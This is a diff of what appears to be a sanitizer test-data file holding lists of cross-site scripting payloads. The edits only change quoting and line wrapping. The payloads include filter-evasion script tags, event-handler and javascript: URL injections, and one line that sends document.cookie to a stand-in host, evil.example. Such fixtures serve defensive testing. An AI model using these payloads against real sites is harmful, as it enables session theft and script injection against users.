@@ -22,7 +22,7 @@ SCRIPT_TAGS = [
     "<<script>alert(1);//<</script>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "</script><script>alert(1)</script>",
-    '<script>/*</script><script>*/alert(1)</script>',
+    "<script>/*</script><script>*/alert(1)</script>",
     "<script\n>alert(1)</script\n>",
     '<script>document.write("<img src=x onerror=alert(1)>")</script>',
     "<script>fetch('//evil.example/steal?c='+document.cookie)</script>",
@@ -99,7 +99,7 @@ LINK_TITLES = [
     '[a](http://ok.example (a" onclick="alert(1)))',
     '[a](http://ok.example "<script>alert(1)</script>")',
     '[a][r]\n\n[r]: http://ok.example "\\" onclick=alert(1) x=\\""',
-    "[a](http://ok.example \"x\nonmouseover=alert(1)\")",
+    '[a](http://ok.example "x\nonmouseover=alert(1)")',
 ]
 
 IMAGES = [
@@ -142,7 +142,8 @@ SVG_AND_MATHML = [
     '<math href="javascript:alert(1)">x</math>',
     '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x />",
+    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+    "<image href='1' onerror='alert(1)' /></svg>#x />",
 ]
 
 ENTITIES = [
@@ -218,8 +219,8 @@ NESTED_MARKDOWN_AND_HTML = [
     "Title\n=====<script>alert(1)</script>",
     "<http://ok.example/<script>alert(1)</script>>",
     'www.ok.example/"><script>alert(1)</script>',
-    "me@ok.example\"><img src=x onerror=alert(1)>",
-    "<a@ok.example\"><img src=x onerror=alert(1)>>",
+    'me@ok.example"><img src=x onerror=alert(1)>',
+    '<a@ok.example"><img src=x onerror=alert(1)>>',
     "http://ok.example/?q=<svg/onload=alert(1)>",
 ]
 
